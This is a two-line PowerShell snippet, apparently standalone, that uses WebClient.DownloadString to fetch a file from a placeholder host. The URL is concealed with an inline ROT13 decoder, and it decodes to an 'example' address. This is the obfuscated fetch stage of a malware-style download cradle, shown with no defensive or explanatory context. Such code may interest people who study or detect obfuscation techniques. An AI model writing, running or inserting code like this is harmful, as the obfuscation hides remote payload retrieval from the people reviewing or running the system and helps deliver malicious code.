$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join ('uggc://n.rknzcyr/c/k.gkg'.ToCharArray()|%{if($_ -match '[a-z]'){[char]((([int]$_-97+13)%26)+97)}else{$_}})))
